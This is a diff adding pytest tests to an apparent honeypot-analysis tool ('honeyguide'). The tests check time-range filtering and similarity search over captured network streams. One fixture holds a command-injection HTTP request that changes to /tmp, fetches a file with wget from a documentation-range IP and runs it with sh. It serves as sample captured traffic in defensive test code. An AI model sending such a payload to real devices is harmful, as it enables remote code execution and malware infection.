@@ -78,6 +78,39 @@ def test_the_store_is_asked_with_kql(honeyguide: Command, folder: Path) -> None:
         assert [row["id"] for row in rows(honeyguide("streams", "list", query, "--json"))] == ids, query
 
 
+def test_a_span_of_time_holds_for_paths_too(honeyguide: Command, folder: Path) -> None:
+    for arguments, ids in {
+        ("--since", "2026-11-22T18:36"): [MONGO, DESK],
+        ("--until", "2026-11-22T18:35"): [EMPTY],
+        ("--since", "2026-11-22T18:35", "--until", "2026-11-22T18:37"): [WEB, MONGO],
+        ("--since", "2030-01-01"): [],
+    }.items():
+        assert [row["id"] for row in rows(honeyguide("streams", "list", folder, "--json", *arguments))] == ids
+
+
+def test_alike_payloads_are_found_from_the_nearest_on(honeyguide: Command, tmp_path: Path) -> None:
+    request = "GET /shell?cd+/tmp;wget+http://198.51.100.{}/jaws;sh HTTP/1.1\\x0d\\x0aUser-Agent: Hello, world\\x0d\\x0aHost: 192.0.2.1:80"
+    said = {WEB: request.format(1), MONGO: request.format(27), DESK: "".join(f"\\x{byte:02x}" for byte in range(256))}
+    day = tmp_path / "day"
+    day.mkdir()
+    for name, text in said.items():
+        (day / name).write_text(f"stream = [('in', b'{text}')]")
+    for like in (WEB, day / WEB):
+        found = rows(honeyguide("streams", "list", day, "--json", "--like", like))
+        assert [(row["id"], row["distance"] == 0) for row in found] == [(WEB, True), (MONGO, False)]
+    assert [row["id"] for row in rows(honeyguide("streams", "list", day, "--json", "--like", WEB, "--distance", "0"))] == [WEB]
+    honeyguide("ingest", day)
+    assert [row["id"] for row in rows(honeyguide("streams", "list", "--json", "--like", WEB))] == [WEB, MONGO]
+    assert "there is no TLSH" in honeyguide("streams", "list", folder_of_short(tmp_path), "--like", EMPTY).stderr
+
+
+def folder_of_short(tmp_path: Path) -> Path:
+    place = tmp_path / "short"
+    place.mkdir()
+    (place / EMPTY).write_bytes(b"stream = [('in', b'short')]")
+    return place
+
+
 def test_ids_of_an_archive_can_be_shown(honeyguide: Command, folder: Path, tmp_path: Path) -> None:
     archive = tmp_path / "day.tar.gz"
     with tarfile.open(archive, "w:gz") as members:
